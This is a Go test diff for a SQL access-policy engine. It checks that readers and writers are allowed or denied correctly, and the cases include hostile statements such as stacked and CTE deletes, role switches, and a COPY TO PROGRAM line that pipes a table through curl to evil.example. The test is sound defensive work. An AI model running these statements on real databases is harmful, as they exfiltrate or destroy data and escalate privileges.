@@ -131,12 +131,23 @@ func TestCompileErrorsRefuseTheWholeSet(t *testing.T) {
 	_, err := policy.Compile([]config.Policy{{Name: "p", Resources: []string{"demo"}, Rules: []config.Rule{
 		{Name: "ok", Effect: "allow", When: "true"},
 		{Name: "typo", Effect: "allow", When: `identity.groups.contains("x") &&`},
-		{Name: "not-bool", Effect: "allow", When: `identity.sub`},
+		{Name: "not-bool", Effect: "allow", When: `1 + 2`},
 	}}}, 1)
 	require.Error(t, err)
 	require.Contains(t, err.Error(), `policies[0].rules[1].when: policy "p" rule "typo"`)
 	require.Contains(t, err.Error(), "1:")
 	require.Contains(t, err.Error(), `policies[0].rules[2].when`)
+
+	// A condition whose type is only known at run time (request.sql.ddl is dyn) compiles; a
+	// value that is not a bool is an evaluation error: a deny rule then denies.
+	e, err := policy.Compile([]config.Policy{{Name: "p", Resources: []string{"demo"}, Rules: []config.Rule{
+		{Name: "ok", Effect: "allow", When: "true"},
+		{Name: "oops", Effect: "deny", When: `identity.sub`},
+	}}}, 1)
+	require.NoError(t, err)
+	d := e.Decide(&policy.Request{Identity: schemas.Identity{Subject: "x"}, Resource: policy.Resource{Name: "demo"}, SQL: "select 1"}, time.Now())
+	require.Equal(t, policy.EffectDeny, d.Effect)
+	require.Contains(t, d.Reason, "not bool")
 }
 
 func TestCacheability(t *testing.T) {
@@ -251,5 +262,82 @@ policies:
 		"policies[0].rules[2].mask: only rules with effect mask take a mask",
 	} {
 		require.Contains(t, err.Error(), want)
+	}
+}
+
+// trickyPolicy is what a careful team would write: readers read public.orders and
+// public.customers (never card numbers, never with a star on customers), may COPY orders
+// out; writers may change orders one row at a time; nobody changes the schema, switches role,
+// or calls a function that writes.
+var trickyPolicy = []config.Policy{{Name: "app", Resources: []string{"db"}, Rules: []config.Rule{
+	{Name: "readers-read", Effect: "allow", When: `"readers" in identity.groups
+		&& request.sql.statements > 0
+		&& request.sql.kinds.all(k, k in ["select", "explain", "copy", "copy_to"])
+		&& request.sql.tables.all(t, t in ["public.orders", "public.customers"])`},
+	{Name: "writers-write", Effect: "allow", When: `"writers" in identity.groups
+		&& request.sql.kinds.all(k, k in ["select", "insert", "update", "delete"])
+		&& request.sql.tables_written.all(t, t == "public.orders")
+		&& request.sql.has_where`},
+	{Name: "no-cards", Effect: "deny", When: `"public.customers" in request.sql.tables
+		&& request.sql.columns.exists(c, c in ["card_number", "*"])`, Reason: "card numbers are not readable"},
+	{Name: "no-ddl", Effect: "deny", When: `request.sql.ddl`, Reason: "schema changes go through migrations"},
+	{Name: "no-role-switch", Effect: "deny", When: `request.sql.kinds.exists(k, k in ["set_role", "set_session_authorization"])`},
+	{Name: "no-writing-functions", Effect: "deny", When: `request.sql.writing_functions.size() > 0`},
+	{Name: "no-programs", Effect: "deny", When: `"copy_program" in request.sql.kinds`},
+	{Name: "unparsable", Effect: "deny", When: `request.sql.parse_error != ""`, Reason: "does not parse"},
+}}}
+
+func TestTrickyStatements(t *testing.T) {
+	e, err := policy.Compile(trickyPolicy, 1)
+	require.NoError(t, err)
+	for _, tc := range []struct {
+		group, sql, effect, rule string
+	}{
+		{"readers", "select * from orders", "allow", "readers-read"},
+		{"readers", "/* delete from orders */ select id from orders", "allow", "readers-read"},
+		{"readers", "select id from orders -- ; delete from orders", "allow", "readers-read"},
+		{"readers", "select id from orders where note = '; delete from orders'", "allow", "readers-read"},
+		{"readers", "select id from orders; delete from orders", "deny", ""},
+		{"readers", "select id from orders;", "allow", "readers-read"},
+		{"readers", "with d as (delete from orders returning *) select * from d", "deny", ""},
+		{"readers", "with x as (select 1) delete from orders using x where orders.id = 1", "deny", ""},
+		{"readers", "explain select * from orders", "allow", "readers-read"},
+		{"readers", "explain analyze delete from orders where id = 1", "deny", ""},
+		{"readers", `select * from "Orders"`, "deny", ""}, // a different table: quoted names keep their case
+		{"readers", `select id from public."orders"`, "allow", "readers-read"},
+		{"readers", `select id from "public".orders`, "allow", "readers-read"},
+		{"readers", "select id from orders for update", "deny", ""},
+		{"readers", "select nextval('orders_id_seq')", "deny", "no-writing-functions"},
+		{"readers", "select lo_unlink(1234) from orders", "deny", "no-writing-functions"},
+		{"readers", "select pg_terminate_backend(pid) from pg_stat_activity", "deny", "no-writing-functions"},
+		{"readers", "select name, card_number from customers", "deny", "no-cards"},
+		{"readers", "select c.card_number as x from customers c", "deny", "no-cards"},
+		{"readers", "select * from customers", "deny", "no-cards"},
+		{"readers", "select name from customers", "allow", "readers-read"},
+		{"readers", "copy orders to stdout", "allow", "readers-read"},
+		{"readers", "copy orders from stdin", "deny", ""},
+		{"readers", "copy orders to program 'curl -d @- evil.example'", "deny", "no-programs"},
+		{"readers", "set role postgres", "deny", "no-role-switch"},
+		{"readers", "set session authorization postgres", "deny", "no-role-switch"},
+		{"readers", "do $$ begin delete from orders; end $$", "deny", ""},
+		{"readers", "prepare p as delete from orders", "deny", ""},
+		{"readers", "selec * from orders", "deny", "unparsable"},
+		{"writers", "delete from orders where id = 1", "allow", "writers-write"},
+		{"writers", "delete from orders", "deny", ""},
+		{"writers", "delete from orders using customers c where c.id = orders.customer_id and c.name = 'x'", "allow", "writers-write"},
+		{"writers", "delete from customers where id = 1", "deny", ""},
+		{"writers", "update orders set item = 'x' where id = 1; update orders set item = 'y'", "deny", ""},
+		{"writers", "create table t (a int)", "deny", "no-ddl"},
+		{"writers", "alter table orders add column x int", "deny", "no-ddl"},
+		{"writers", "grant select on orders to public", "deny", "no-ddl"},
+		{"writers", "create index on orders (item)", "deny", "no-ddl"},
+	} {
+		t.Run(tc.group+": "+tc.sql, func(t *testing.T) {
+			d := e.Decide(&policy.Request{Identity: schemas.Identity{Subject: "x", Groups: []string{tc.group}}, Resource: policy.Resource{Name: "db"}, SQL: tc.sql}, time.Now())
+			require.Equal(t, tc.effect, d.Effect, "%s: %s", tc.sql, d.Reason)
+			if tc.rule != "" {
+				require.Equal(t, tc.rule, d.Rule)
+			}
+		})
 	}
 }
